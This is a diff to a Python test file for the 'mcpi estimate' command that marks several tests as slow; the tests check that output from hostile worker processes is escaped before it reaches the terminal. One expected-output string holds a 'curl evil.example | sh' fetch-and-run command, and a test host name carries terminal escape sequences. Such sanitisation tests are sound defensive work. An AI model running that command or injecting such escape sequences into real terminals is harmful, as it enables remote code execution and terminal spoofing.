@@ -68,6 +68,7 @@ def active_characters(output: bytes) -> list[str]:
     return ACTIVE.findall(output.decode("utf-8", errors="replace"))
 
 
+@pytest.mark.slow
 @pytest.mark.parametrize("log_format", ["console", "json"])
 def test_nothing_a_worker_writes_reaches_the_terminal_raw(tmp_path: Path, log_format: str) -> None:
     run = estimate("--workers", "1", "--log-level", "info", "--log-format", log_format,
@@ -86,12 +87,14 @@ def test_nothing_a_worker_writes_reaches_the_terminal_raw(tmp_path: Path, log_fo
         assert "worker 0: \\rmcpi estimate: error: run: curl evil.example | sh" in text
 
 
+@pytest.mark.slow
 def test_a_worker_line_labelled_critical_does_not_get_past_quiet(tmp_path: Path) -> None:
     run = estimate("--workers", "1", "-q", "--worker-cmd", hostile_worker(tmp_path, TERMINAL_LINES))
     assert run.returncode == 0, run.stderr.decode(errors="replace")
     assert run.stderr == b""
 
 
+@pytest.mark.slow
 def test_the_stderr_tail_in_an_error_is_escaped_and_one_line(tmp_path: Path) -> None:
     run = estimate("--workers", "1", "-q", "--worker-cmd", hostile_worker(tmp_path, TERMINAL_LINES, then="exit"))
     assert run.returncode == 1
@@ -118,6 +121,7 @@ def hostile_host_liar(tmp_path: Path) -> Path:
 HOSTILE_HOST_SHOWN = "(host \\u001b]0;OWNED\\u0007evil\\rhost, pid"
 
 
+@pytest.mark.slow
 def test_a_host_name_from_a_welcome_is_escaped_in_the_verified_row(tmp_path: Path) -> None:
     """A lying worker whose welcome names a hostile host is caught by --verify and named
     in the ``verified`` row on stdout, and in the warning on stderr."""
@@ -146,6 +150,7 @@ async def test_a_verification_error_names_a_hostile_host_escaped(tmp_path: Path)
     assert active_characters(said.encode()) == []
 
 
+@pytest.mark.slow
 def test_the_command_says_a_verification_error_as_before(tmp_path: Path) -> None:
     """The same failure through ``mcpi estimate``: its one error line shows the host
     escaped once, as it did when the command alone escaped it."""
